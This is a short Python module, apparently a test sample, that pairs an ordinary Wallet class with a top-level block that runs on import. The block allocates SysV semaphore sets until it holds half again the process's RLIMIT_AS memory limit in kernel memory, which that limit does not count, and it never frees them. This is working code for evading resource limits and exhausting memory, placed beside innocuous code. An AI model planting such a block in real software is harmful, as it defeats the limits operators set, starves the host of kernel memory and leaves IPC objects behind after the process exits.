"""Holds half again its memory limit in SysV semaphore sets beside an honest class: a set of 32,000 semaphores takes 2 MB of kernel memory (64 bytes each), which RLIMIT_AS never counts."""

import ctypes
import os
import resource

IPC_PRIVATE, IPC_CREAT = 0, 0o1000
PER_SET = 32000
SET_BYTES = PER_SET * 64
_libc = ctypes.CDLL(None, use_errno=True)
limit = resource.getrlimit(resource.RLIMIT_AS)[0]
held = []
for _ in range(3 * limit // 2 // SET_BYTES):
    ident = _libc.semget(IPC_PRIVATE, PER_SET, IPC_CREAT | 0o600)
    if ident < 0:
        raise OSError(ctypes.get_errno(), f"semget: {os.strerror(ctypes.get_errno())}")
    held.append(ident)


class Wallet:
    def __init__(self):
        self.balance = 0

    def deposit(self, amount):
        if amount <= 0:
            raise ValueError("amount must be positive")
        self.balance += amount
        return self.balance

    def withdraw(self, amount):
        if amount > self.balance:
            return False
        self.balance -= amount
        return True
